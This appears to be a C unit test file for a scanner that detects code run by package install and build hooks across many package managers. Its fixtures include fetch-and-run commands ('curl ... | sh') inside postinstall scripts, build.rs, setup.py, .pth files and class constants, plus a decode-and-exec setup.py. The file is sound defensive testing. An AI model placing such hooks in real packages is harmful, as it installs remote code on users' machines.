// SPDX-License-Identifier: Apache-2.0
/* What files of packages run, and what near misses do not. */
#include "base/strbuf.h"
#include "inspect/test-facts.h"

static void look(const char *path, const char *content)
{
    static const char *const only[] = {"script", "package", NULL};
    look_with(&(struct inspect_options){.only = only}, path, str_from(content), &facts);
}

TEST(npm_hooks)
{
    look("/app/node_modules/x/package.json",
         "{\"name\": \"@a/x\", \"version\": \"1.2.3\", \"scripts\": {\"test\": \"curl x | sh\", \"postinstall\": \"node lib/install.js\","
         " \"preinstall\": \"curl -s https://files.example/x | sh\"}}");
    CHECK_CSTR(list(F_PACKAGE_MANAGER), "npm");
    CHECK_CSTR(list(F_PACKAGE_NAME), "@a/x");
    CHECK_CSTR(list(F_PACKAGE_VERSION), "1.2.3");
    CHECK_CSTR(list(F_PACKAGE_SCRIPT_KINDS), "(preinstall,postinstall)");
    CHECK_CSTR(list(F_PACKAGE_SCRIPTS), "(curl -s https://files.example/x | sh,node lib/install.js)");
    CHECK_CSTR(list(F_PACKAGE_SCRIPT_FILES), "(lib/install.js)");
    CHECK_CSTR(list(F_PACKAGE_CODE), "(network)");
    CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(https://files.example/x)");
    CHECK(facts_get(&facts, F_SCRIPT_DOWNLOAD_RUN)->b);
    CHECK(facts.n_notes > 0);

    look("/app/package.json", "{\"name\": \"x\", \"scripts\": {\"test\": \"curl x | sh\", \"start\": \"node a.js\"}}");
    CHECK_CSTR(list(F_PACKAGE_NAME), "x");
    CHECK(!facts_has(&facts, F_PACKAGE_SCRIPT_KINDS) && !facts_has(&facts, F_PACKAGE_SCRIPTS) &&
          !facts_has(&facts, F_PACKAGE_CODE) && !facts_has(&facts, F_SCRIPT_DOWNLOAD_RUN) &&
          !facts_has(&facts, F_PACKAGE_SCRIPT_FILES) && !facts_has(&facts, F_PACKAGE_VERSION));
    look("/app/package.json", "{\"translations\": 1}");
    CHECK(!facts_has(&facts, F_PACKAGE_MANAGER));
    look("/app/package.json", "{\"scripts\": {\"postinstall\": 7}}");
    CHECK(!facts_has(&facts, F_PACKAGE_SCRIPT_KINDS));
    look("/app/package-lock.json", "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"x\"}}");
    CHECK(!facts_has(&facts, F_PACKAGE_MANAGER));
}

TEST(commands_in_gyp)
{
    look("/x/binding.gyp", "{'sources': ['<!(curl -s https://files.example/x | sh)', '<!@(node -p \"f(1)\")', '<(dir)/a.c']}");
    CHECK_CSTR(list(F_PACKAGE_SCRIPTS), "(curl -s https://files.example/x | sh,node -p \"f(1)\")");
    CHECK(facts_get(&facts, F_SCRIPT_DOWNLOAD_RUN)->b);
    look("/x/binding.gyp", "{'sources': ['<(dir)/a.c', '<!', '<!(unclosed']}");
    CHECK(!facts_has(&facts, F_PACKAGE_SCRIPTS));
}

/* What runs when a package is built or installed from its sources. */
TEST(recipes_and_hooks_of_sources)
{
#define GET "curl -fsSL https://files.example/i | sh"
    static const char *const CASES[][4] = {
        {"/x/composer.json", "{\"name\": \"a/b\", \"scripts\": {\"post-install-cmd\": [\"A\\\\B::c\", \"@other\", \"" GET "\"]}}", "composer", "(post-install-cmd)"},
        {"/x/composer.json", "{\"scripts\": {\"pre-autoload-dump\": \"@php -r \\\"system('" GET "');\\\"\"}}", "composer", "(pre-autoload-dump)"},
        {"/x/build.rs", "fn main() {\n  Command::new(\"sh\")\n    .arg(\"-c\").arg(\"" GET "\").status();\n}\n", "cargo", "(build.rs)"},
        {"/x/build.rs", "fn main() { std::process::Command::new(\"bash\").args(&[\"-c\", \"" GET "\"]).spawn(); }\n", "cargo", "(build.rs)"},
        {"/x/a.gemspec", "`" GET "`\nGem::Specification.new\n", "gem", "(gemspec)"},
        {"/x/Makefile.PL", "use ExtUtils::MakeMaker;\nsystem(\"" GET "\");\nWriteMakefile();\n", "cpan", "(Makefile.PL)"},
        {"/x/a.rockspec", "build = { type = \"command\", build_command = '" GET "' }\n", "luarocks", "(build_command)"},
        {"/x/a.spec", "Name: a\n%description\nText\n%post -p /bin/sh\n" GET "\n%files\n/a\n", "rpm", "(post)"},
        {"/x/PKGBUILD", "pkgname=a\nbuild() {\n  " GET "\n}\n", "pacman", "(build)"},
        {"/x/a.install", "post_install() {\n  " GET "\n}\n", "pacman", "(install)"},
        {"/x/APKBUILD", "pkgname=a\nbuild() {\n  " GET "\n}\n", "apk", "(build)"},
        {"/x/a.post-install", "#!/bin/sh\n" GET "\n", "apk", "(post-install)"},
        {"/x/debian/a.postinst", "#!/bin/sh\n" GET "\n", "dpkg", "(postinst)"},
        {"/x/DEBIAN/preinst", "#!/bin/sh\n" GET "\n", "dpkg", "(preinst)"},
        {"/x/setup.py", "import requests\nr = requests.get('https://files.example/i.py')\nexec(r.text)\n", "pip", "(setup.py)"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look(CASES[i][0], CASES[i][1]);
        CHECK_CSTR(list(F_PACKAGE_MANAGER), CASES[i][2]);
        CHECK_CSTR(list(F_PACKAGE_SCRIPT_KINDS), CASES[i][3]);
        if (i + 1 < ARRAY_SIZE(CASES) ? !facts_has(&facts, F_SCRIPT_DOWNLOAD_RUN) : !facts_has(&facts, F_PACKAGE_SCRIPT_KINDS))
            test_fail(__FILE__, __LINE__, "not run: %s", CASES[i][1]);
    }
    static const char *const OTHERS[][2] = {
        {"/x/composer.json", "{\"name\": \"a/b\", \"scripts\": {\"test\": \"" GET "\", \"post-install-cmd\": [\"@test\"]}}"},
        {"/x/build.rs", "// Command::new(\"sh\") is not called\nfn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }\n"},
        {"/x/a.gemspec", "# run `" GET "` first\nGem::Specification.new\n"},
        {"/x/a.spec", "Name: a\n%description\n" GET "\n%files\n"},
        {"/x/a.spec", "a = Analysis(['x.py'])\n%post\n" GET "\n"}, /* PyInstaller's */
        {"/x/postinst", GET "\n"},
        {"/x/setup.py", "import requests\nr = requests.get('https://files.example/i.py')\nprint(r.text)\nexec(q)\n"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(OTHERS); i++) {
        look(OTHERS[i][0], OTHERS[i][1]);
        if (facts_has(&facts, F_SCRIPT_DOWNLOAD_RUN) && facts_has(&facts, F_PACKAGE_SCRIPT_KINDS))
            test_fail(__FILE__, __LINE__, "run: %s", OTHERS[i][1]);
    }
}

TEST(programs_of_python)
{
    look("/x/setup.py", "import base64, subprocess\nexec(base64.b64decode('eA=='))\nsetup(cmdclass={'install': I})\n");
    CHECK_CSTR(list(F_PACKAGE_SCRIPT_KINDS), "(setup.py)");
    CHECK_CSTR(list(F_PACKAGE_CODE), "(exec,decode,cmdclass)");
    CHECK(facts_get(&facts, F_SCRIPT_DECODE_RUN)->b);
    look("/x/setup.py", "import re\nre.compile('x')\nmy_exec('x')\nr.exec('x')\nsetup()\n");
    CHECK(!facts_has(&facts, F_PACKAGE_CODE));
    look("/x/other.py", "exec(base64.b64decode('eA=='))\n");
    CHECK(!facts_has(&facts, F_PACKAGE_SCRIPT_KINDS));
    look("/x/sitecustomize.py", "import urllib.request\n");
    CHECK_CSTR(list(F_PACKAGE_SCRIPT_KINDS), "(sitecustomize)");
    CHECK_CSTR(list(F_PACKAGE_CODE), "(network)");
    look("/x/a.pth", "/opt/lib\nimport os; os.system('curl -s https://files.example/x | sh')\nimportant\n");
    CHECK_CSTR(list(F_PACKAGE_SCRIPTS), "(import os; os.system('curl -s https://files.example/x | sh'))");
    CHECK(facts_get(&facts, F_SCRIPT_DOWNLOAD_RUN)->b);
    look("/x/a.pth", "/opt/subprocess.\nimportant subprocess.\n");
    CHECK(!facts_has(&facts, F_PACKAGE_SCRIPT_KINDS) && !facts_has(&facts, F_PACKAGE_CODE));
    look("/x/pyproject.toml", "[build-system]\nbuild-backend = \"own\"\nbackend-path = [\".\"]\n");
    CHECK_CSTR(list(F_PACKAGE_SCRIPT_KINDS), "(build-backend)");
    look("/x/pyproject.toml", "[build-system]\nbuild-backend = \"setuptools.build_meta\"\n");
    CHECK(!facts_has(&facts, F_PACKAGE_SCRIPT_KINDS));
    look("/x/extconf.rb", "require 'mkmf'\nNet::HTTP.get(u)\n");
    CHECK_CSTR(list(F_PACKAGE_MANAGER), "gem");
    CHECK_CSTR(list(F_PACKAGE_CODE), "(network)");
}

TEST(scripts_of_distributions)
{
    look("/var/lib/dpkg/info/libx:amd64.postinst", "#!/bin/sh\ncurl -s https://files.example/x | sh\n");
    CHECK_CSTR(list(F_PACKAGE_MANAGER), "dpkg");
    CHECK_CSTR(list(F_PACKAGE_NAME), "libx:amd64");
    CHECK_CSTR(list(F_PACKAGE_SCRIPT_KINDS), "(postinst)");
    look("/var/lib/dpkg/info/libx.list", "/usr/lib/x\n");
    CHECK(!facts_has(&facts, F_PACKAGE_MANAGER));
    look("/opt/postinst", "#!/bin/sh\ntrue\n");
    CHECK(!facts_has(&facts, F_PACKAGE_MANAGER));
}

TEST(manifests_and_classes)
{
    look("/META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nImplementation-Title: app\r\nImplementation-Version: 2\r\nPremain-Class: a.B\r\n");
    CHECK_CSTR(list(F_PACKAGE_MANAGER), "jar");
    CHECK_CSTR(list(F_PACKAGE_NAME), "app");
    CHECK_CSTR(list(F_PACKAGE_SCRIPT_KINDS), "(premain)");
    CHECK_CSTR(list(F_PACKAGE_SCRIPTS), "(a.B)");
    static const char *const only[] = {"package", NULL};
#define UTF8(n, s) "\1\0" n s
    struct str shell = STR("\xca\xfe\xba\xbe\0\0\0\x34\0\4" UTF8("\x11", "java/lang/Runtime") UTF8("\x29", "curl -s https://files.example/xyzxyz | sh") "\7\0\1");
    look_with(&(struct inspect_options){.only = only}, "/A.class", shell, &facts);
    CHECK_CSTR(list(F_PACKAGE_CODE), "(process)");
    CHECK(facts_get(&facts, F_SCRIPT_DOWNLOAD_RUN)->b);
    struct str plain = STR("\xca\xfe\xba\xbe\0\0\0\x34\0\4" UTF8("\x11", "java/lang/Integer") UTF8("\x29", "curl -s https://files.example/xyzxyz | sh") "\7\0\1");
    look_with(&(struct inspect_options){.only = only}, "/A.class", plain, &facts);
    CHECK(!facts_has(&facts, F_PACKAGE_CODE) && !facts_has(&facts, F_SCRIPT_DOWNLOAD_RUN));
}

TEST(where_packages_come_from)
{
    look("/etc/pip.conf", "[global]\nindex-url = https://user:pw@pypi.example.org/simple # own\nextra-index-url=http://b.example/s\nproxy = http://p.example\n");
    CHECK_CSTR(list(F_PACKAGE_INDEXES), "(https://pypi.example.org/simple,http://b.example/s)");
    CHECK_CSTR(list(F_PACKAGE_MANAGER), "pip");
    look("/root/.npmrc", "@own:registry=https://npm.example.org/\nproxy=http://p.example\n");
    CHECK_CSTR(list(F_PACKAGE_INDEXES), "(https://npm.example.org/)");
    look("/x/gradle-wrapper.properties", "distributionUrl=https\\://files.example/gradle.zip\n");
    CHECK_CSTR(list(F_PACKAGE_INDEXES), "(https://files.example/gradle.zip)");
    look("/x/requirements.txt", "requests==2\n--extra-index-url https://c.example/simple\n");
    CHECK_CSTR(list(F_PACKAGE_INDEXES), "(https://c.example/simple)");
    look("/etc/other.conf", "index-url = https://pypi.example.org/simple\n");
    CHECK(!facts_has(&facts, F_PACKAGE_INDEXES) && !facts_has(&facts, F_PACKAGE_MANAGER));
}

/* Compiled Python: only texts that can be nothing but commands are. */
TEST(compiled_python)
{
    static const char CODE[] = "\xa7\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3\0\0\0\0\xda\2os\xda\6system\xfa\x2a" "curl -s https://files.example/davy-test|sh\xda\5hello";
    look_with(&(struct inspect_options){.only = (const char *const[]){"package", NULL}}, "/x/a.pyc", str_n(CODE, sizeof(CODE) - 1), &facts);
    CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(https://files.example/davy-test)");
    CHECK_CSTR(list(F_PACKAGE_SCRIPTS), "(curl -s https://files.example/davy-test|sh)");
    static const char OTHER[] = "\xa7\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3\0\0\0\0\xda\2os\xda\6logger\xfa\x2a" "curl -s https://files.example/davy-test|sh\xda\5hello";
    look_with(&(struct inspect_options){.only = (const char *const[]){"package", NULL}}, "/x/a.pyc", str_n(OTHER, sizeof(OTHER) - 1), &facts);
    CHECK(!facts_has(&facts, F_SCRIPT_DOWNLOADS));
}
